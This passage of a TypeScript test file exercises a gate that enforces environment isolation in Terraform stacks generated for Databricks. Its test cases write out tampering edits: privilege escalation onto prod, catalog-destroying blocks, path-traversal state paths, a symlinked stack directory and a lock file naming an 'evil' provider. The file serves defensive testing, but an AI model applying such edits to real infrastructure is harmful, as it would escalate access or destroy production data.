    expect(attack("ref-dev", (j) => (j.resource.databricks_schema.dev__gold.owner = "Databricks - Dev"))).toEqual(["ref-dev databricks_schema.dev__gold [catalog-owner]"]);
  });
});

describe("sandbox storage (sandbox.storage): exactly CREATE_MANAGED_STORAGE for the creators", () => {
  const data = defaultModelData();
  data.sandbox.storage = { externalLocation: "ref-ml-core-dev-sandboxes", url: "s3://ref-ml-core-dev-workspace-bucket/sandboxes" };
  const withStorage = modelFrom(data);
  outputs.set(withStorage, synthOutput(withStorage));
  const grant = (j: any) => j.resource.databricks_grant.sandbox_storage__group_dev;

  it("passes the grant the model gives, and nothing more", () => {
    expect(found(outputs.get(withStorage)!, withStorage)).toEqual([]);
    expect(grant(outputs.get(withStorage)!.find((x) => x.name === "ref-dev")!.json)).toEqual(
      expect.objectContaining({ external_location: "ref-ml-core-dev-sandboxes", privileges: ["CREATE_MANAGED_STORAGE"] }),
    );
  });

  it("fails reading or writing the location's files, or the grant on another location", () => {
    expect(attack("ref-dev", (j) => grant(j).privileges.push("READ_FILES", "WRITE_FILES"), withStorage)).toEqual(Array(2).fill("ref-dev databricks_grant.sandbox_storage__group_dev [exceeds-model]"));
    expect(attack("ref-dev", (j) => (grant(j).external_location = "prod-landing"), withStorage)).toEqual(["ref-dev databricks_grant.sandbox_storage__group_dev [exceeds-model]"]);
  });

  it("fails the grant where the model has no sandbox storage", () => {
    expect(found(outputs.get(withStorage)!, model)).toEqual(["ref-dev databricks_grant.sandbox_storage__group_dev [exceeds-model]"]);
  });
});

describe("any other value (differs-from-model)", () => {
  it("fails the workspace_host output (CI's deploy target) pointing at dev, and a storage root added to an adopted catalog", () => {
    expect(attack("ref-prod", (j) => (j.output.workspace_host.value = DEV_HOST))).toEqual(["ref-prod output.workspace_host [differs-from-model]"]);
    expect(attack("ref-prod", (j) => (j.resource.databricks_catalog.prod.storage_root = "s3://elsewhere/prod"))).toEqual(["ref-prod databricks_catalog.prod [unknown-construct]"]);
    expect(attack("ref-prod", (j) => (j.resource.databricks_schema.prod__gold.name = "gold2"))).toEqual(["ref-prod databricks_schema.prod__gold [differs-from-model]"]);
  });
});

describe("destruction and state (state-guard, catalog-protection)", () => {
  it("fails a removed block that destroys a catalog", () => {
    expect(attack("ref-prod", (j) => (j.removed = [{ from: "databricks_catalog.prod", lifecycle: { destroy: true } }]))).toEqual(["ref-prod removed databricks_catalog.prod [state-guard]"]);
  });

  it("fails schemas without prevent_destroy or with force_destroy", () => {
    expect(attack("ref-prod", (j) => delete j.resource.databricks_schema.prod__gold.lifecycle)).toEqual(["ref-prod databricks_schema.prod__gold [catalog-protection]"]);
    expect(attack("ref-prod", (j) => (j.resource.databricks_schema.prod__gold.force_destroy = true))).toEqual(["ref-prod databricks_schema.prod__gold [catalog-protection]"]);
    expect(attack("ref-prod", (j) => (j.resource.databricks_catalog.prod.lifecycle.prevent_destroy = false))).toEqual(["ref-prod databricks_catalog.prod [catalog-protection]"]);
  });

  it("fails importing another environment's schema, and an import ID naming another catalog", () => {
    expect(attack("ref-staging", (j) => j.import.push({ to: "databricks_schema.staging__gold", id: "prod.gold" }))).toEqual(["ref-staging import databricks_schema.staging__gold [state-guard]"]);
    expect(attack("ref-staging", (j) => (j.import[0].id = "prod"))).toEqual(["ref-staging import databricks_catalog.staging [state-guard]"]);
  });

  it("fails a moved block, even onto a protected address", () => {
    expect(attack("ref-prod", (j) => (j.moved = [{ from: "databricks_catalog.old", to: "databricks_catalog.prod" }]))).toEqual(["ref-prod moved databricks_catalog.old [state-guard]"]);
  });

  it("fails a local state path or an S3 key that is another stack's", () => {
    expect(attack("ref-prod", (j) => (j.terraform.backend.local.path = "../../../terraform.ref-dev.tfstate"))).toEqual(["ref-prod terraform [state-guard]"]);
    // The right name in another directory is another state: what it holds and the code lacks is destroyed.
    expect(attack("ref-prod", (j) => (j.terraform.backend.local.path = "../../../../terraform.ref-prod.tfstate"))).toEqual(["ref-prod terraform [state-guard]"]);
    expect(attack("ref-prod", (j) => (j.terraform.backend.local.path = "../../../elsewhere/terraform.ref-prod.tfstate"))).toEqual(["ref-prod terraform [state-guard]"]);
    expect(attack("ref-prod", (j) => (j.terraform.backend.s3.key = "uc-env-isolation/ref-dev.tfstate"), full)).toEqual(["ref-prod terraform [state-guard]"]);
    expect(attack("ref-prod", (j) => (j.terraform.backend = { s3: { bucket: "x", key: "y", region: "us-east-1" } }))).toEqual(["ref-prod terraform.backend.s3 [state-guard]", "ref-prod terraform [state-guard]"].sort());
  });
});

describe("changes through the constructs (synth refuses)", () => {
  function synthWith(edit: (stacks: TerraformStack[]) => void): () => void {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), "gate-synth-"));
    return () =>
      synthToDirectory((staging) => {
        const app = buildApp(model, staging, dir);
        edit(app.node.children as TerraformStack[]);
        return { app, model };
      }, path.join(dir, "cdktf.out"));
  }
  const prodStack = (stacks: TerraformStack[]) => stacks.find((s) => s.node.id === "ref-prod")!;

  it("refuses a Grant added beside the constructs that gives Dev MODIFY on prod", () => {
    const run = synthWith((stacks) => new Grant(prodStack(stacks), "sneaky", { catalog: "prod", principal: "Databricks - Dev", privileges: ["MODIFY"] }));
    expect(run).toThrow(SynthCheckError);
    expect(run).toThrow(/\[write-outside-own-environment\] Databricks - Dev \/ catalog prod \/ MODIFY/);
  });

  it("refuses two constructs with one logical ID instead of merging them", () => {
    const run = synthWith((stacks) => {
      const g = new Grant(prodStack(stacks), "twin", { catalog: "prod", principal: "Databricks - Prod - ReadOnly", privileges: ["SELECT"] });
      g.overrideLogicalId("catalog_prod__group_prod_readonly");
    });
    expect(run).toThrow(/\[duplicate-logical-id\] declared by both ref-prod\/catalog\/grants\/group_prod_readonly\/resource and ref-prod\/twin/);
  });
});

describe("renames (the model's `moved`)", () => {
  const renamed = (moved: unknown) => {
    const data = defaultModelData();
    data.access.developers = data.access.dev;
    delete data.access.dev;
    data.groups.developers = data.groups.dev;
    delete data.groups.dev;
    data.sandbox.creators = ["developers"];
    data.moved = moved;
    return modelFrom(data);
  };
  const move = { "ref-dev": { "databricks_grant.catalog_dev__group_dev": "databricks_grant.catalog_dev__group_developers" } };

  it("passes the moved block of a rename the model declares, and fails one it does not", () => {
    const m = renamed(move);
    outputs.set(m, synthOutput(m));
    expect(found(outputs.get(m)!, m)).toEqual([]);
    expect(attack("ref-dev", (j) => j.moved.push({ from: "databricks_catalog.old", to: "databricks_catalog.dev" }), m)).toEqual(["ref-dev moved databricks_catalog.old [state-guard]"]);
    expect(attack("ref-dev", (j) => (j.moved[0].to = "databricks_grant.catalog_dev__group_account_admin"), m)).toEqual(["ref-dev moved databricks_grant.catalog_dev__group_dev [state-guard]"]);
    expect(attack("ref-dev", (j) => delete j.moved, m)).toEqual(["ref-dev moved databricks_grant.catalog_dev__group_dev [missing-from-output]"]);
  });

  it("rejects a rename onto an address the stack does not declare, or from one it still does", () => {
    expect(() => desiredState(renamed({ "ref-dev": { "databricks_grant.catalog_dev__group_dev": "databricks_grant.nowhere" } }))).toThrow(
      /moved\.ref-dev\.databricks_grant\.catalog_dev__group_dev: moves to databricks_grant\.nowhere, which ref-dev does not declare/,
    );
    expect(() => desiredState(renamed({ "ref-dev": { "databricks_grant.catalog_dev__sp_dev": "databricks_grant.catalog_dev__group_developers" } }))).toThrow(/which ref-dev still declares/);
  });
});

describe("more Terraform settings and meta-arguments that could re-aim a stack (each refused by the walk)", () => {
  it.each([
    ["the dev stack's profile variable defaulting to prod's profile", "ref-dev", (j: any) => (j.variable.databricks_profile.default = "ref-prod"), "ref-dev variable.databricks_profile [provider-workspace]"],
    ["a terraform cloud block (state and runs elsewhere)", "ref-prod", (j: any) => (j.terraform.cloud = { organization: "x", workspaces: { name: "y" } }), "ref-prod terraform.cloud [state-guard]"],
    ["provider_meta in the terraform block", "ref-prod", (j: any) => (j.terraform.provider_meta = { databricks: { x: 1 } }), "ref-prod terraform [unknown-construct]"],
    ["experiments in the terraform block", "ref-prod", (j: any) => (j.terraform.experiments = ["x"]), "ref-prod terraform [unknown-construct]"],
    ["a looser required_version", "ref-prod", (j: any) => (j.terraform.required_version = ">= 0.12"), "ref-prod terraform [differs-from-model]"],
    ["a provider auth_type (another sign-in)", "ref-prod", (j: any) => (j.provider.databricks[0].auth_type = "pat"), "ref-prod provider.databricks [provider-workspace]"],
    ["the provider written as an object, aimed at dev", "ref-prod", (j: any) => (j.provider.databricks = { ...j.provider.databricks[0], host: DEV_HOST }), "ref-prod provider.databricks [provider-workspace]"],
    ["a top-level key in another case (Resource)", "ref-prod", (j: any) => (j.Resource = { databricks_grant: { x: { catalog: "prod", principal: "Databricks - Dev", privileges: ["MODIFY"] } } }), "ref-prod Resource [unknown-construct]"],
    ["a lookup routed through another provider configuration", "ref-prod", (j: any) => (j.data.databricks_group.account_admin.provider = "databricks.dev"), "ref-prod data.databricks_group.account_admin [provider-workspace]"],
    ["a grant's principal read from a variable", "ref-prod", (j: any) => (j.resource.databricks_grant.catalog_prod__group_prod_readonly.principal = "${var.databricks_profile}"), "ref-prod databricks_grant.catalog_prod__group_prod_readonly [unresolved-reference]"],
    ["a validation on the profile variable", "ref-prod", (j: any) => (j.variable.databricks_profile.validation = [{ condition: "true", error_message: "x" }]), "ref-prod variable.databricks_profile [unknown-construct]"],
    ["an output marked sensitive (hidden from the plan)", "ref-prod", (j: any) => (j.output.workspace_host.sensitive = true), "ref-prod output.workspace_host [unknown-construct]"],
    ["an import with for_each", "ref-prod", (j: any) => (j.import[0].for_each = ["a"]), "ref-prod import databricks_catalog.prod [unknown-construct]"],
    ["an import through another provider configuration", "ref-prod", (j: any) => (j.import[0].provider = "databricks.dev"), "ref-prod import databricks_catalog.prod [unknown-construct]"],
    ["a local backend's workspace_dir in dev's directory", "ref-prod", (j: any) => (j.terraform.backend.local.workspace_dir = "../ref-dev"), "ref-prod terraform.backend.local.workspace_dir [state-guard]"],
    ["an ephemeral block", "ref-prod", (j: any) => (j.ephemeral = { x: {} }), "ref-prod ephemeral [unknown-construct]"],
  ])("fails %s", (_what, stack, edit, want) => {
    expect(attack(stack, edit)).toEqual([want]);
  });

  it("passes a `//` comment in a block body, which terraform ignores too", () => {
    expect(attack("ref-prod", (j) => (j.resource.databricks_catalog.prod.lifecycle["//"] = "prevent_destroy: false"))).toEqual([]);
  });

  it.each([
    ["terraform's selected workspace (.terraform/environment), which moves the state", ".terraform/environment", "dev"],
    ["a state file beside the configuration", "terraform.tfstate", "{}"],
    ["a test file", "x.tftest.hcl", 'run "x" {}\n'],
    ["a lock file for another provider", ".terraform.lock.hcl", 'provider "registry.terraform.io/evil/databricks" {\n  version = "1.0.0"\n}\n'],
  ])("fails %s in a stack directory", (_what, file, content) => {
    const dir = outputDir();
    fs.mkdirSync(path.dirname(path.join(dir, "stacks/ref-prod", file)), { recursive: true });
    fs.writeFileSync(path.join(dir, "stacks/ref-prod", file), content);
    expect(onDir(dir)).toEqual([`ref-prod stacks/ref-prod/${file} [unexpected-file]`]);
  });

  it("rejects a stack directory that is a link to another stack's as bad input", () => {
    const dir = outputDir();
    fs.rmSync(path.join(dir, "stacks/ref-prod"), { recursive: true });
    fs.symlinkSync(path.join(dir, "stacks/ref-dev"), path.join(dir, "stacks/ref-prod"));
    expect(() => onDir(dir)).toThrow(/listed in the manifest for stack "ref-prod" but not a directory/);
  });
});
